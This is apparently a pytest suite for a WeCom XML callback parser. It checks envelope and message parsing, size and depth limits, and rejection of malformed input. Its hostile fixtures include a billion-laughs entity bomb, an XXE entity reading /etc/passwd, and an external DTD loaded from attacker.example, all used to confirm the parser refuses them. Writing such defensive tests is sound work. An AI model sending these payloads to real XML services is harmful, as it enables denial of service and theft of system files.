"""parse_envelope and read_message: correct on what WeCom sends, XMLParseError on non-XML.

Any well-formed message is kept (typed view + every element); only input that is not XML the
parser accepts (malformed, DOCTYPE, not UTF-8, too large, too deep) is refused.
"""

from __future__ import annotations

import contextlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.errors import XMLParseError
from shared.protocol.parser import Envelope, parse_envelope, parse_message, read_message
from shared.schemas.inbound import (
    ClickEvent,
    InboundEvent,
    LocationEvent,
    ScanCodePushEvent,
    TextMessage,
    UnknownEvent,
    UnknownMessage,
)

ENC = "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QAD=="


def text_xml(content: str = "hello", extra: str = "") -> bytes:
    return (
        "<xml><ToUserName><![CDATA[wwcorp]]></ToUserName>"
        "<FromUserName><![CDATA[alice]]></FromUserName><CreateTime>1409659813</CreateTime>"
        f"<MsgType><![CDATA[text]]></MsgType><Content><![CDATA[{content}]]></Content>"
        f"<MsgId>4561255354251345929</MsgId><AgentID>218</AgentID>{extra}</xml>"
    ).encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>&lol9;</ToUserName><FromUserName>a</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId><Encrypt>&lol9;</Encrypt></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId><Encrypt>&xxe;</Encrypt></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>x</Content><MsgId>1</MsgId><Encrypt>QUJD</Encrypt></xml>"""

PLAIN_DOCTYPE = b"<!DOCTYPE xml><xml><Encrypt>QUJD</Encrypt><FromUserName>b</FromUserName></xml>"


def deep(levels: int, leaf: str = "<Encrypt>QUJD</Encrypt>") -> bytes:
    return ("<xml>" + "<a>" * levels + "</a>" * levels + leaf + "</xml>").encode()


# Well-formed for both parsers (an <Encrypt> for the envelope, a text message for parse_message),
# so each hostile variant below fails for its own fault, not for a missing element.
BASE = text_xml(extra="<Encrypt>QUJD</Encrypt>")

HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "doctype": PLAIN_DOCTYPE,
    "200-deep": deep(200),
    "truncated": BASE[:-9],
    "not-xml": b"hello world",
    "junk-after-root": BASE + b"<xml/>",
    "undefined-entity": BASE.replace(b"<![CDATA[hello]]>", b"&foo;"),
    "gbk-bytes": BASE.replace(b"hello", "你好".encode("gbk")),
    "gbk-declared": b'<?xml version="1.0" encoding="GBK"?>'
    + BASE.replace(b"hello", "你好".encode("gbk")),
    "utf16": BASE.decode().encode("utf-16"),
    "empty": b"",
}


# ---------------------------------------------------------------- envelope


def test_the_base_of_the_hostile_variants_is_accepted() -> None:
    assert parse_envelope(BASE).encrypt == "QUJD"
    assert isinstance(parse_message(BASE), TextMessage)


def test_envelope_of_tencents_a2_body() -> None:
    body = (
        f"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName><Encrypt><![CDATA[{ENC}]]>"
        "</Encrypt><AgentID><![CDATA[218]]></AgentID></xml>"
    ).encode()
    assert parse_envelope(body) == Envelope("wx5823bf96d3bd56c7", "218", ENC)


@pytest.mark.parametrize(
    "body",
    [
        f"<xml><Encrypt>{ENC}</Encrypt><AgentID>218</AgentID><ToUserName>ww1</ToUserName></xml>",
        f"<xml>\n  <AgentID>218</AgentID>\n  <ToUserName>ww1</ToUserName>\n"
        f"  <Encrypt><![CDATA[{ENC}]]></Encrypt>\n</xml>\n",
        f"<?xml version='1.0' encoding='utf-8'?><xml><ToUserName><![CDATA[ww1]]></ToUserName>"
        f"<!-- a comment --><Unknown><Nested>x</Nested></Unknown><AgentID>218</AgentID>"
        f"<Encrypt><![CDATA[{ENC[:40]}]]><![CDATA[{ENC[40:]}]]></Encrypt></xml>",
    ],
    ids=["order-swapped-plain-text", "pretty-printed-cdata", "split-cdata-extra-elements"],
)
def test_envelope_parsed_by_name_in_any_form(body: str) -> None:
    assert parse_envelope(body.encode()) == Envelope("ww1", "218", ENC)


def test_envelope_without_agent_id() -> None:
    envelope = parse_envelope(
        f"<xml><ToUserName>ww1</ToUserName><Encrypt>{ENC}</Encrypt></xml>".encode()
    )
    assert envelope.agent_id is None and envelope.encrypt == ENC


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"<xml><ToUserName>ww1</ToUserName></xml>", "missing <Encrypt>"),
        (b"<xml><Encrypt></Encrypt></xml>", "missing <Encrypt>"),
        (b"<xml><Encrypt>QUJD</Encrypt><Encrypt>QUJE</Encrypt></xml>", "duplicate"),
        (b"<xml><Encrypt>QU<b>JD</b></Encrypt></xml>", "text only"),
        (b"<envelope><Encrypt>QUJD</Encrypt></envelope>", "root"),
        (b"<xml><a><Encrypt>QUJD</Encrypt></a></xml>", "missing <Encrypt>"),
    ],
)
def test_envelope_refusals(body: bytes, reason: str) -> None:
    with pytest.raises(XMLParseError, match=reason):
        parse_envelope(body)


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_envelope_refuses_hostile_xml(body: bytes) -> None:
    with pytest.raises(XMLParseError) as info:
        parse_envelope(body)
    assert info.value.code == -40002
    assert "missing" not in str(info.value)
    assert "root:" not in str(info.value) and "lol" not in str(info.value)


def test_envelope_size_limit() -> None:
    body = f"<xml><Encrypt>{ENC}</Encrypt></xml>".encode()
    assert parse_envelope(body, max_bytes=len(body)).encrypt == ENC
    with pytest.raises(XMLParseError, match="larger than"):
        parse_envelope(body, max_bytes=len(body) - 1)
    with pytest.raises(XMLParseError, match="larger than"):
        parse_envelope(b"<xml>" + b" " * 262144 + b"<Encrypt>QUJD</Encrypt></xml>")


# ---------------------------------------------------------------- message


def test_message_of_tencents_a2_plaintext() -> None:
    plaintext = (
        b"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n"
        b"<FromUserName><![CDATA[mycreate]]></FromUserName>\n<CreateTime>1409659813</CreateTime>\n"
        b"<MsgType><![CDATA[text]]></MsgType>\n<Content><![CDATA[hello]]></Content>\n"
        b"<MsgId>4561255354251345929</MsgId>\n<AgentID>218</AgentID>\n</xml>"
    )
    assert parse_message(plaintext) == TextMessage(
        to_user="wx5823bf96d3bd56c7",
        from_user="mycreate",
        create_time=1409659813,
        agent_id=218,
        msg_id=4561255354251345929,
        content="hello",
    )


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_message_refuses_hostile_xml(body: bytes) -> None:
    with pytest.raises(XMLParseError) as info:
        parse_message(body)
    assert "root:" not in str(info.value) and "lol" not in str(info.value)


def test_message_size_and_depth_limits() -> None:
    body = text_xml()
    assert isinstance(parse_message(body, max_bytes=len(body)), TextMessage)
    with pytest.raises(XMLParseError, match="larger than"):
        parse_message(body, max_bytes=len(body) - 1)
    nested = text_xml(extra="<a>" * 14 + "</a>" * 14)  # <xml> + 14 = 15 levels
    assert isinstance(parse_message(nested, max_depth=15), TextMessage)
    with pytest.raises(XMLParseError, match="nested deeper"):
        parse_message(nested, max_depth=14)


def test_content_is_kept_exactly() -> None:
    content = "  line one\n\tline two ]]> & <b>not markup</b>  "
    cdata = content.replace("]]>", "]]]]><![CDATA[>")
    message = parse_message(text_xml(cdata))
    assert isinstance(message, TextMessage) and message.content == content
    plain = text_xml().replace(b"<![CDATA[hello]]>", b"a &lt;b&gt; &amp; &#20320;")
    message = parse_message(plain)
    assert isinstance(message, TextMessage) and message.content == "a <b> & 你"


def test_unmodelled_elements_do_not_break_parsing() -> None:
    extra = "<NewField>x</NewField><Nested><Deeper>1</Deeper></Nested><Content2/>"
    message = parse_message(text_xml(extra=extra))
    assert isinstance(message, TextMessage) and message.content == "hello"


@pytest.mark.parametrize(
    ("body", "raw"),
    [
        (b"<xml>text only</xml>", {"#text": "text only"}),
        (b"<xml/>", {}),
        (
            b"<message><MsgType>text</MsgType></message>",
            {"#root": "message", "MsgType": "text"},
        ),
    ],
)
def test_odd_documents_are_kept_whole(body: bytes, raw: dict[str, Any]) -> None:
    got = read_message(body)
    assert got.raw == raw
    assert isinstance(got.event, UnknownMessage) and got.event.fields == raw
    assert (got.event.from_user, got.event.create_time) == ("", 0)


def test_a_message_lacking_base_fields_is_kept_whole() -> None:
    body = text_xml().replace(b"<FromUserName><![CDATA[alice]]></FromUserName>", b"")
    body = body.replace(b"1409659813", b"yesterday")
    got = read_message(body)
    assert isinstance(got.event, UnknownMessage)
    assert got.event.from_user == "" and got.event.create_time == 0
    assert got.event.msg_type == "text" and got.event.msg_id == 4561255354251345929
    assert got.raw["CreateTime"] == "yesterday" and "FromUserName" not in got.raw
    assert got.raw["Content"] == "hello"


def test_a_kf_event_is_an_unknown_event_with_every_field() -> None:
    body = (
        b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><CreateTime>1700000000</CreateTime>"
        b"<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[kf_msg_or_event]]></Event>"
        b"<Token><![CDATA[ENCApHxnGDNAVNY4AaSJKj4Tb5mwsEMzxhFmHVGcra996NR]]></Token>"
        b"<OpenKfId><![CDATA[wkxxxxxxx]]></OpenKfId></xml>"
    )
    event, raw = read_message(body)
    assert isinstance(event, UnknownEvent)
    assert (event.event, event.from_user, event.agent_id) == ("kf_msg_or_event", "", None)
    assert event.create_time == 1700000000 and event.to_user == "ww1"
    assert raw["Token"] == "ENCApHxnGDNAVNY4AaSJKj4Tb5mwsEMzxhFmHVGcra996NR"
    assert raw["OpenKfId"] == "wkxxxxxxx"


def test_raw_keeps_extra_nested_and_repeated_elements_of_a_modelled_type() -> None:
    extra = (
        "<NewField>x</NewField><Nested><Deeper>1</Deeper><Deeper>2</Deeper></Nested>"
        "<Tag>a</Tag><Tag>b</Tag><Tag>c</Tag><Empty/>"
    )
    event, raw = read_message(text_xml(extra=extra))
    assert isinstance(event, TextMessage) and event.content == "hello"
    assert raw["NewField"] == "x"
    assert raw["Nested"] == {"Deeper": ["1", "2"]}
    assert raw["Tag"] == ["a", "b", "c"]
    assert raw["Empty"] is None
    assert raw["Content"] == "hello" and raw["MsgId"] == "4561255354251345929"


def test_parse_message_is_the_typed_view_of_read_message() -> None:
    assert parse_message(text_xml()) == read_message(text_xml()).event


def event_xml(event: str, extra: str = "") -> bytes:
    return (
        "<xml><ToUserName>ww1</ToUserName><FromUserName>alice</FromUserName>"
        f"<CreateTime>1700000000</CreateTime><MsgType>event</MsgType><Event>{event}</Event>"
        f"{extra}<AgentID>1000002</AgentID></xml>"
    ).encode()


def test_event_names_match_case_insensitively() -> None:
    ev = parse_message(event_xml("location", "<Latitude>1.5</Latitude>"))
    assert isinstance(ev, LocationEvent) and ev.latitude == 1.5 and ev.event == "location"


def test_a_message_type_never_borrows_an_event_tag() -> None:
    body = text_xml().replace(b"<![CDATA[text]]>", b"event.click")
    ev = parse_message(body)
    assert isinstance(ev, UnknownMessage) and not isinstance(ev, ClickEvent)
    assert ev.msg_type == "event.click" and ev.fields["Content"] == "hello"


def test_known_event_with_unexpected_shape_is_kept_whole() -> None:
    ev = parse_message(event_xml("scancode_push", "<ScanCodeInfo>just text</ScanCodeInfo>"))
    assert not isinstance(ev, ScanCodePushEvent)
    assert isinstance(ev, UnknownEvent)
    assert ev.event == "scancode_push" and ev.fields["ScanCodeInfo"] == "just text"


def test_message_without_msg_id_is_kept_as_unknown() -> None:
    ev = parse_message(text_xml().replace(b"<MsgId>4561255354251345929</MsgId>", b""))
    assert isinstance(ev, UnknownMessage)
    assert ev.msg_id is None and ev.fields["Content"] == "hello"


# ---------------------------------------------------------------- fuzz

_names = st.sampled_from(
    ["ToUserName", "FromUserName", "CreateTime", "MsgType", "Event", "Content", "MsgId", "x"]
)
_texts = st.one_of(
    st.sampled_from(["text", "event", "click", "change_contact", "1", "", "-1", "9" * 30]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20),
)
_trees = st.recursive(
    _texts.map(lambda t: t.replace("&", "&amp;").replace("<", "&lt;")),
    lambda children: st.lists(st.tuples(_names, children), max_size=6).map(
        lambda kids: "".join(f"<{name}>{body}</{name}>" for name, body in kids)
    ),
    max_leaves=20,
)


@given(tree=_trees)
def test_random_well_formed_documents_are_always_kept(tree: str) -> None:
    event, raw = read_message(f"<xml>{tree}</xml>".encode())
    assert isinstance(event, InboundEvent) and isinstance(raw, dict)


@given(data=st.binary(max_size=300))
def test_random_bytes_never_escape_as_other_errors(data: bytes) -> None:
    for parse in (parse_envelope, parse_message):
        with contextlib.suppress(XMLParseError):
            parse(data)
